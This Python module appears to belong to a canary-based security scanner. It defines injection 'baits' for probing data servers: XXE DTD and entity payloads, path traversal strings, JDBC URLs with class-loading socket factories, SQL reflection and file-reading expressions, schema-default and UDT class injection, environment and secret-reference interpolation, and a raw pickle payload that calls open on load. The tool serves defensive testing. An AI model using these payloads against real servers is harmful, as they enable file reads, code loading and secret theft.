"""The baits: texts that lead to a canary if a server does more with them than it should."""

from __future__ import annotations

import itertools
import json
from collections.abc import Callable, Iterator, Mapping, Sequence
from typing import Any, NamedTuple

from surface.canary import Canary

Make = Callable[[Canary, int], str]


class Attack(NamedTuple):
    """One thing to send: what it is, which bait it holds, and how to make it with a number."""

    kind: str
    bait: str
    make: Callable[[Any, int], Any]


ALL: Mapping[str, Make] = {
    "path": lambda c, n: f"{c.file(n)}",
    "path, file:": lambda c, n: f"file:{c.file(n)}",
    "path, //": lambda c, n: f"//{c.file(n)}",
    "path, /proc": lambda c, n: f"/proc/self/root{c.file(n)}",
    "path, ..": lambda c, n: f"{c.lake}/../canary/{c.file(n).name}",
    "path, link": lambda c, n: f"{c.link(n)}",
    "lake, DTD of a file": lambda c, n: f"{c.schema_file(n, f'file://{c.file(n)}')}",
    "lake, DTD of a URL": lambda c, n: f"{c.schema_file(n, f'http://{c.place(n)}/a')}",
    "lake, log of a sink": lambda c, n: f"{c.sink_log(n)}",
    "lake, footer": lambda c, n: f"{c.footer(n, _schema(_defaults(_reads(c.file(n)))))}",
    "URL, http": lambda c, n: f"http://{c.place(n)}/a",
    "URL, thrift": lambda c, n: f"thrift://{c.place(n)}",
    "host": lambda c, n: c.host(n),
    "host:port": lambda c, n: c.place(n),
    "JDBC, Derby": lambda c, n: f"jdbc:derby:{c.derby}/d{n};create=true",
    "JDBC, Derby in memory": lambda c, n: f"jdbc:derby:memory:m{n};create=true",
    "JDBC, Hive": lambda c, n: f"jdbc:hive2://{c.place(n)}/a",
    "JDBC, PostgreSQL": lambda c, n: f"jdbc:postgresql://{c.place(n)}/a?socketFactory={c.class_name(n)}",
    "class": lambda c, n: c.class_name(n),
    "${env:}": lambda c, n: "${env:CANARY}",
    "${system:}": lambda c, n: "${system:canary}",
    "${env.}": lambda c, n: "${env.CANARY}",
    "reference": lambda c, n: "${sealed:private/login:password}",
    "SQL, reflect": lambda c, n: f"java_method('{c.class_name(n)}', 'call')",
    "SQL, file": lambda c, n: f"(SELECT max(value) FROM text.`{c.file(n)}`)",
    "SQL, XSD": lambda c, n: _reads(c.file(n)),
    "SQL, schema": lambda c, n: f"from_json('{{}}', {quoted(_schema(_defaults(_reads(c.file(n)))))})",
    "schema, SQL that reads": lambda c, n: _schema(_defaults(_reads(c.file(n)))),
    "schema, SQL that reflects": lambda c, n: _schema(_defaults(ALL["SQL, reflect"](c, n))),
    "schema, class": lambda c, n: json.dumps(_udt(c.class_name(n))),
    "schema, class inside": lambda c, n: _schema({}, _udt(c.class_name(n))),
    "schema, DDL": lambda c, n: f"a STRING DEFAULT {_reads(c.file(n))}",
    "metadata": lambda c, n: json.dumps(_defaults(_reads(c.file(n)))),
    "XML, DTD": lambda c, n: f"<!DOCTYPE a SYSTEM 'file://{c.file(n)}'><a/>",
    "XML, entity": lambda c, n: f"<!DOCTYPE a [<!ENTITY b SYSTEM 'file://{c.file(n)}'>]><a>&b;</a>",
}
#: One of each kind, for places that are many.
CORE = (
    "path", "lake, DTD of a file", "lake, log of a sink", "URL, http", "JDBC, Derby", "class", "SQL, reflect",
    "SQL, XSD", "schema, SQL that reads", "schema, class inside", "metadata",
)  # fmt: skip
#: What the value of an option may lead to.
VALUES = (
    "path", "path, file:", "lake, DTD of a file", "lake, log of a sink", "URL, http", "host", "JDBC, Derby", "class",
    "${env:}", "reference", "SQL, XSD", "schema, SQL that reads",
)  # fmt: skip
_FEW = ("path", "URL, http", "class")


def few(keys: Sequence[str], turn: int) -> Iterator[tuple[str, str]]:
    """A bait for each of many keys: another one in another place."""
    return zip(itertools.islice(itertools.cycle(_FEW), turn % len(_FEW), None), keys, strict=False)


BYTES: Mapping[str, Callable[[Canary, int], bytes]] = {
    "bytes, Java": lambda c, n: c.serialized(n),
    # Runs when Python reads it: makes the file of the class that would have run.
    "bytes, pickle": lambda c, n: f"cbuiltins\nopen\n(V{c.fired}/C{n:06d}\nVw\ntR.".encode(),
}


def _reads(file: object) -> str:
    """SQL without a relation that reads a file."""
    return f"from_xml('<a/>', 'a STRING', map('rowValidationXSDPath', '{file}')).a"


def _defaults(sql: str) -> Mapping[str, str]:
    return {"EXISTS_DEFAULT": sql, "CURRENT_DEFAULT": sql}


def _schema(metadata: Mapping[str, str], kind: object = "string") -> str:
    field = {"name": "a", "type": kind, "nullable": True, "metadata": metadata}
    return json.dumps({"type": "struct", "fields": [field]})


def _udt(name: str) -> Mapping[str, object]:
    return {"type": "udt", "class": name, "pyClass": None, "sqlType": "string"}


def quoted(text: str) -> str:
    """A text as SQL writes it."""
    return "'" + text.replace("\\", "\\\\").replace("'", "\\'") + "'"
